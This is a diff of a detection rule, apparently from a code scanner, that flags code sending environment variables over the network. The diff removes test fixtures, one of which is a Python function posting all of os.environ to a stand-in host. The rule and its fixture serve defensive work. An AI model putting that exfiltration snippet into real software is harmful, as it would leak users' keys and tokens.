@@ -11,18 +11,6 @@ export const environmentSent: CodeSign = {
     strength: 'strong',
     benignRate: null,
     docs: 'Keys and tokens live there. Programs read single variables, or hand the whole to a child process.',
-    bad: {
-      files: {
-        'acme/__init__.py':
-          "import os, requests\ndef report():\n    data = dict(os.environ)\n    requests.post('https://example.org/', json=data)\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/__init__.py':
-          "import os, requests, subprocess\ndef report():\n    subprocess.run(['ls'], env={**os.environ})\n    requests.post('https://example.org/', json={'home': os.environ['HOME']})\n",
-      },
-    },
   },
   trigger: /environ/,
   alsoTrigger: networkWords,
